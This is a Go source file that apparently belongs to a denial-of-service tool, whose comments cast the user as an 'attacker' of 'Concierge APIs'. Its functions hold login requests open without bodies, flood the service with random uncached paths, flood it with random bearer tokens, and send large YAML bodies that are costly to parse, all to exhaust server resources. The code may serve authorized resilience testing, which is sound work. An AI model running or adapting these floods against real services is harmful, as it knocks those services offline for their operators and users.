package main

import (
	"context"
	"fmt"
	"strings"
)

// apiConnections is how many connections to the port of the Concierge APIs stand for one of an attacker's. Three times as
// many are about 200.
const apiConnections = 67

// unfinishedPosts begins logins whose bodies do not come, as many as a connection has streams.
func unfinishedPosts(ctx context.Context, a *attacker) {
	a.onFrames(ctx, 1, func(f *frames, _ int) error {
		for range attackStreams {
			if _, err := f.begin("POST", credentialRequests, field{"content-type", "application/json"}); err != nil {
				return err
			}
		}
		f.hold(ctx)
		return nil
	})
}

// newPaths asks for what was never asked for.
func newPaths(ctx context.Context, a *attacker) {
	a.onFrames(ctx, apiConnections, func(f *frames, worker int) error {
		return f.flood(ctx, func() error {
			_, err := f.request("GET", fmt.Sprintf("/%s/%d/%d", a.Salt, worker, a.requests.Load()), nil)
			return err
		})
	})
}

// newTokens asks with tokens that were never seen.
func newTokens(ctx context.Context, a *attacker) {
	a.onFrames(ctx, apiConnections, func(f *frames, _ int) error {
		return f.flood(ctx, func() error {
			_, err := f.request("GET", credentialRequests, nil, field{"authorization", "Bearer " + random()})
			return err
		})
	})
}

// yamlLogins sends logins that take much to parse as YAML.
func yamlLogins(ctx context.Context, a *attacker) {
	const each, size = 7, 64_000
	body := []byte(strings.Repeat("- {a: [b, c], d: 'e'}\n", size/22))
	a.onFrames(ctx, each, func(f *frames, _ int) error {
		return f.flood(ctx, func() error {
			_, err := f.request("POST", credentialRequests, body, field{"content-type", "application/yaml"})
			return err
		})
	})
}
